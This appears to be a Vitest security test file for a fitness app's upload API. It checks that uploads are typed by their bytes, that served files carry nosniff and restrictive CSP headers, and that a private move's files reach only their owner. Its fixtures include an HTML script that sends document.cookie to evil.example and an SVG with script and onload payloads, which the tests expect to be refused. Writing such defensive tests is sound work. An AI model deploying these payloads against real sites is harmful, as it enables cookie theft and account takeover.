// @vitest-environment node
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { REPO_ROOT, serverForThisFile } from './mockServer'
import { ACCOUNTS, call, pathOf, resetData, signIn, upload } from './securityClient'

/**
 * Issue 11 item 8: an upload's type comes from its bytes and must be one we serve safely; files
 * go out with nosniff and a restrictive CSP; a private move's files are its owner's alone.
 */

const mock = serverForThisFile()
const server = () => mock.current()

const media = (path: string) => readFileSync(join(REPO_ROOT, 'public/media', path))
/** The shipped media is MP4, WebM and WebP; JPEG and WebVTT samples live with the tests. */
const fixture = (name: string) => readFileSync(join(REPO_ROOT, 'tests/fixtures/media', name))
const MP4 = media('videos/plank.mp4')
const WEBM = media('videos/plank.webm')
const WEBP = media('posters/plank.webp')
const JPEG = fixture('plank.jpg')
const VTT = fixture('plank.vtt')

const HTML = Buffer.from('<!doctype html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>')
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>')

let member = ''
let second = ''

beforeAll(async () => {
  await resetData(server())
  member = await signIn(server(), ACCOUNTS.member)
  second = await signIn(server(), ACCOUNTS.second)
})

describe('item 8: what may be uploaded', () => {
  const hostile: Array<[string, { name: string; type: string; bytes: Buffer }]> = [
    ['HTML declared as HTML', { name: 'page.html', type: 'text/html', bytes: HTML }],
    ['SVG with script', { name: 'icon.svg', type: 'image/svg+xml', bytes: SVG }],
    ['text declared as video/mp4', { name: 'clip.mp4', type: 'video/mp4', bytes: Buffer.from('just some text, not a video') }],
    ['HTML declared as a PNG', { name: 'poster.png', type: 'image/png', bytes: HTML }],
    ['HTML declared as WebVTT', { name: 'captions.vtt', type: 'text/vtt', bytes: HTML }],
  ]

  for (const [name, file] of hostile) {
    it(`refuses ${name}`, async () => {
      const answer = await upload(server(), member, file)
      expect(answer.status, answer.text).toBeGreaterThanOrEqual(400)
      expect(answer.status).toBeLessThan(500)
    })
  }

  const allowed: Array<[string, { name: string; type: string; bytes: Buffer }, string]> = [
    ['an MP4 video', { name: 'plank.mp4', type: 'video/mp4', bytes: MP4 }, 'video/mp4'],
    ['a WebM video', { name: 'plank.webm', type: 'video/webm', bytes: WEBM }, 'video/webm'],
    ['a JPEG poster', { name: 'plank.jpg', type: 'image/jpeg', bytes: JPEG }, 'image/jpeg'],
    ['a WebP poster', { name: 'plank.webp', type: 'image/webp', bytes: WEBP }, 'image/webp'],
    ['WebVTT captions', { name: 'plank.vtt', type: 'text/vtt', bytes: VTT }, 'text/vtt'],
  ]

  for (const [name, file, type] of allowed) {
    it(`accepts ${name} and serves it with nosniff and a restrictive CSP`, async () => {
      const answer = await upload(server(), member, file)
      expect(answer.status, answer.text).toBe(200)
      const served = await call(server(), 'GET', pathOf(answer.body.url as string), { token: member, project: false })
      expect(served.status).toBe(200)
      expect(served.headers['content-type']).toContain(type)
      expect(served.headers['x-content-type-options']).toBe('nosniff')
      const csp = String(served.headers['content-security-policy'] ?? '')
      expect(csp).toMatch(/default-src 'none'|sandbox/)
      expect(Buffer.compare(served.bytes, file.bytes)).toBe(0)
    })
  }

  it('takes the type from the bytes: a JPEG declared as video/mp4 is not served as video', async () => {
    const answer = await upload(server(), member, { name: 'poster.mp4', type: 'video/mp4', bytes: JPEG })
    if (answer.status !== 200) {
      expect(answer.status).toBeGreaterThanOrEqual(400)
      return
    }
    const served = await call(server(), 'GET', pathOf(answer.body.url as string), { token: member, project: false })
    expect(served.headers['content-type']).not.toContain('video/mp4')
  })
})

describe("item 8: a private move's files", () => {
  it('are served to the owner only', async () => {
    const video = await upload(server(), member, { name: 'secret-move.mp4', type: 'video/mp4', bytes: MP4 })
    const poster = await upload(server(), member, { name: 'secret-move.jpg', type: 'image/jpeg', bytes: JPEG })
    expect(video.status, video.text).toBe(200)
    expect(poster.status, poster.text).toBe(200)

    const created = await call<{ model: { id: number } }>(server(), 'POST', '/v4/api/records/move', {
      token: member,
      body: {
        title: 'My private finisher',
        description: 'Only for me.',
        body_area: 'Core',
        equipment: 'None',
        difficulty: 'beginner',
        duration_seconds: 30,
        status: 'private',
        video_url: video.body.url,
        poster_url: poster.body.url,
      },
    })
    expect(created.status, created.text).toBe(200)

    const bare = new URL(video.body.url as string).pathname
    const anonymous = await call(server(), 'GET', bare, { project: false })
    expect(anonymous.status, 'a stranger guessing the sequential id').toBeGreaterThanOrEqual(400)
    expect(anonymous.bytes.includes(MP4.subarray(0, 64))).toBe(false)

    const other = await call(server(), 'GET', bare, { token: second, project: false })
    expect(other.status, 'another member').toBeGreaterThanOrEqual(400)

    // The owner plays it from the URL the move hands out (signed or not, as the server chooses).
    const move = await call<{ model: { video_url: string } }>(server(), 'GET', `/v4/api/records/move/${created.body.model.id}`, { token: member })
    expect(move.status, move.text).toBe(200)
    const own = await call(server(), 'GET', pathOf(move.body.model.video_url), { token: member, project: false })
    expect(own.status).toBe(200)
    expect(Buffer.compare(own.bytes, MP4)).toBe(0)
  })
})
